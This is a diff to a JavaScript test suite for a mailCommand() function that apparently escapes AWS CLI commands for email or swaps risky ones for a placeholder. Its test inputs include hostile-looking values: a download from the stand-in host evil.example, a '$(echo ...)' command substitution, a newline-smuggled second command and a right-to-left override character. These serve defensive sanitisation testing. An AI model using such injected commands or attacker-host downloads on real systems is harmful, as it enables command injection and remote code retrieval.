@@ -79,10 +79,12 @@ describe("mailCommand()", () => {
     ["aws iam list-users", "aws iam list-users"],
     ["aws x --policy-document file://revoke.json", "aws x --policy-document file://revoke.json"],
     ["aws iam get-user --user-name jane@example.com", "aws iam get-user --user-name jane@example\\.com"],
-    ["aws s3 cp https://evil.example/x .", "(the command is in the report"],
-    ["aws x --text 'see evil.example now'", "(the command is in the report"],
-    ["aws x\naws y", "(the command is in the report"],
-    ["aws x \u202e", "(the command is in the report"],
+    ["aws s3 cp https://evil.example/x .", "(this command is in the report"],
+    ["aws iam get-user --user-name 'maria.ops'", "aws iam get-user --user-name 'maria'\\.'ops'"],
+    [`aws x --text "see evil.example"`, `aws x --text "see evil"\\."example"`],
+    ["aws x --text $(echo evil.example)", "(this command is in the report"],
+    ["aws x\naws y", "(this command is in the report"],
+    ["aws x \u202e", "(this command is in the report"],
   ])("writes %j as %j", (line, wanted) => {
     expect(mailCommand(line).startsWith(wanted)).toBe(true);
   });
